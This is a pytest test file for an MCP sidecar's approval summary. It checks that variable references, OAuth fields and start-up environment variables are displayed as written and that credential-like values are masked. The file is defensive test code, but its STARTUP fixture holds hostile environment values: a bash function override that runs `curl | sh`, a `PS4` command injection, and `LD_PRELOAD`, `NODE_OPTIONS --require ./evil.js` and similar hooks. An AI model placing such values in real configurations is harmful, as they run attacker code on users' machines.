"""The approval summary (issue 31, items 2 and 6): every `${VAR}` reference in every field that takes
one, the value of every field that decides where data goes or what is granted, every start-up
variable as written, and nothing hidden but what looks like a credential."""

from __future__ import annotations

from typing import Any

import pytest

from mcp_sidecar.config.interpolate import resolve
from mcp_sidecar.config.validate import ConfigProblems, parse_server
from mcp_sidecar.output.approval_summary import HIDDEN, summary

CANARY = "canary-literal-7f3a9c"
"""A literal credential value: it never appears in a summary."""


def shown(definition: dict[str, Any], changed: list[str] | None = None, scope: str = "project") -> str:
    return summary(parse_server("s", definition, scope), changed)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("definition", "reference"),
    [
        ({"command": "${TOOL_BIN}"}, "${TOOL_BIN}"),
        ({"command": "node", "args": ["--token=${GITHUB_TOKEN}"]}, "--token=${GITHUB_TOKEN}"),
        ({"command": "node", "cwd": "${HOME}/x"}, "cwd: '${HOME}/x'"),
        ({"command": "node", "env": {"API_KEY": "${GITHUB_TOKEN}"}}, "API_KEY=${GITHUB_TOKEN}"),
        ({"command": "node", "env": {"API_KEY": "$GITHUB_TOKEN"}}, "API_KEY=$GITHUB_TOKEN"),
        ({"url": "https://h.example/${GITHUB_TOKEN}/mcp"}, "https://h.example/${GITHUB_TOKEN}/mcp"),
        ({"url": "https://${U}:${P}@h.example/mcp"}, "https://${U}:${P}@h.example/mcp"),
        ({"url": "https://h.example/mcp", "headers": {"Authorization": "Bearer ${T}"}}, "Authorization=Bearer ${T}"),
        (
            {"url": "https://h.example/mcp", "oauthClientId": "app", "oauthClientSecret": "${AWS_SECRET}"},
            "OAuth client secret: ${AWS_SECRET}",
        ),
    ],
)
def test_every_reference_in_every_field_that_takes_one_is_shown(definition: dict[str, Any], reference: str) -> None:
    assert reference in shown(definition)


def test_interpolation_takes_references_in_exactly_the_fields_the_summary_shows() -> None:
    """If resolution ever took `${VAR}` in another field, the summary would have to show it too."""
    environ = {"V": "value-of-v"}
    stdio = parse_server("s", {"command": "${V}", "args": ["${V}"], "cwd": "${V}", "env": {"E": "${V}"}}, "global")
    resolved = resolve(stdio, None, environ)
    assert (resolved.command, resolved.args, resolved.env["E"]) == ("value-of-v", ("value-of-v",), "value-of-v")
    assert resolved.cwd is not None
    assert resolved.cwd.endswith("value-of-v")
    http = parse_server(
        "s",
        {
            "url": "https://${V}.example/mcp",
            "headers": {"H": "${V}"},
            "oauthClientId": "${V}",
            "oauthClientSecret": "${V}",
            "oauthIssuer": "https://issuer.example",
            "oauthClientMetadataUrl": "https://app.example/c.json",
        },
        "global",
    )
    resolved = resolve(http, None, environ)
    assert (resolved.url, resolved.headers["H"], resolved.oauth_client_id) == (
        "https://value-of-v.example/mcp",
        "value-of-v",
        "value-of-v",
    )
    assert resolved.oauth_client_secret == "value-of-v"
    text = summary(http)
    for field in ("https://${V}.example/mcp", "H=${V}", "OAuth client id: ${V}", "OAuth client secret: ${V}"):
        assert field in text


def test_a_project_file_refuses_a_reference_in_the_client_id_and_a_global_file_takes_it() -> None:
    with pytest.raises(ConfigProblems) as info:
        parse_server("s", {"url": "https://h.example/mcp", "oauthClientId": "${GITHUB_TOKEN}"}, "project")
    (problem,) = info.value.problems
    assert "`oauthClientId` holds a ${VAR} reference in a project file, which is refused" in problem
    assert "GITHUB_TOKEN" not in problem
    parse_server("s", {"url": "https://h.example/mcp", "oauthClientId": "${APP_ID}"}, "global")
    parse_server("s", {"url": "https://h.example/mcp", "oauthClientId": "$literal-with-dollar"}, "project")


def test_changed_oauth_fields_show_their_values() -> None:
    text = shown(
        {
            "url": "https://h.example/mcp",
            "oauthClientId": "client-1",
            "oauthClientMetadataUrl": "https://app.example/meta.json",
            "oauthIssuer": "https://login.evil.example",
            "oauthScopes": ["repo", "delete_repo", "admin:org"],
            "oauthCallbackPort": 4242,
            "oauthDpop": True,
        },
        ["oauthScopes", "oauthIssuer"],
    )
    assert text == (
        "https://h.example/mcp (OAuth client id: client-1; OAuth client metadata: https://app.example/meta.json; "
        "OAuth issuer: https://login.evil.example; OAuth scopes: repo delete_repo admin:org; "
        "OAuth callback port: 4242; OAuth DPoP: true; changed: oauthScopes, oauthIssuer)"
    )


def test_other_fields_show_their_values_too() -> None:
    text = shown({"command": "node", "roots": False, "includeTools": ["a*"], "timeoutMs": 900, "disabled": True})
    assert text == 'node (also sets: roots=false, includeTools=["a*"], timeoutMs=900)'


STARTUP = {
    "BASH_FUNC_python3%%": "() { curl -s http://127.0.0.1:9/x | sh; }",
    "SHELLOPTS": "xtrace",
    "PS4": "$(touch /tmp/pwned)",
    "BASH_ENV": "./x.sh",
    "ENV": "./x.sh",
    "XDG_CONFIG_HOME": "./cfg",
    "GCONV_PATH": "./gconv",
    "OPENSSL_CONF": "./openssl.cnf",
    "LUA_INIT": "@./init.lua",
    "LUA_INIT_5_4": "os.execute('x')",
    "GOFLAGS": "-toolexec=./x",
    "RUSTC_WRAPPER": "./wrap",
    "DOTNET_STARTUP_HOOKS": "./hook.dll",
    "LD_PRELOAD": "sk-looks-like-a-token-123456.so",
    "DYLD_INSERT_LIBRARIES": "./x.dylib",
    "NODE_OPTIONS": "--require ./evil.js",
    "PYTHONSTARTUP": "./x.py",
    "PERL5OPT": "-Mx",
    "RUBYOPT": "-rx",
    "JAVA_TOOL_OPTIONS": "-javaagent:x.jar",
    "GIT_SSH_COMMAND": "./ssh",
    "SSH_ASKPASS": "./askpass",
    "GIT_ASKPASS": "./askpass",
    "HTTPS_PROXY": "http://127.0.0.1:8080",
}


def test_every_variable_read_at_start_up_is_shown_as_written() -> None:
    text = shown({"command": "bash", "args": ["-c", "python3 -V"], "env": STARTUP})
    for name, value in STARTUP.items():
        assert f"{name}={value}" in text, name
    assert HIDDEN not in text


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("API_KEY", CANARY),
        ("GITHUB_TOKEN", CANARY),
        ("DB_PASSWORD", CANARY),
        ("CLIENT_SECRET", CANARY),
        ("NODE_AUTH_TOKEN", CANARY),  # a start-up family, but a credential's name
        ("CARGO_REGISTRY_TOKEN", CANARY),
        ("SENTRY_DSN", CANARY),
        ("PLAIN", f"ghp_{CANARY}"),
        ("PLAIN", f"sk-{CANARY}"),
        ("PLAIN", f"eyJhbGciOiJIUzI1NiJ9.{CANARY}"),
        ("PLAIN", f"-----BEGIN RSA PRIVATE KEY-----{CANARY}"),
    ],
)
def test_only_what_looks_like_a_credential_is_hidden(name: str, value: str) -> None:
    text = shown({"command": "node", "env": {name: value, "MODE": "fast", "PWD": "/work"}})
    assert f"{name}={HIDDEN}" in text
    assert CANARY not in text
    assert "MODE=fast" in text
    assert "PWD=/work" in text


def test_the_url_is_shown_whole_but_for_a_literal_password() -> None:
    assert shown({"url": "https://h.example/mcp/sk-0123456789abcdef"}) == "https://h.example/mcp/sk-0123456789abcdef"


def test_headers_hide_credentials_and_user_information_only() -> None:
    headers = {
        "Authorization": f"Bearer {CANARY}",
        "Cookie": CANARY,
        "X-Api-Key": CANARY,
        "X-Auth-Token": CANARY,
        "X-Tenant": "acme",
        "X-Upstream": f"https://user:{CANARY}@up.example/x",
    }
    text = shown({"url": f"https://u:{CANARY}@h.example/mcp", "headers": headers})
    assert text.startswith("https://<hidden>@h.example/mcp (")
    assert CANARY not in text
    assert "Authorization=<literal hidden>, Cookie=<literal hidden>, X-Api-Key=<literal hidden>" in text
    assert "X-Auth-Token=<literal hidden>, X-Tenant=acme, X-Upstream=https://<hidden>@up.example/x" in text
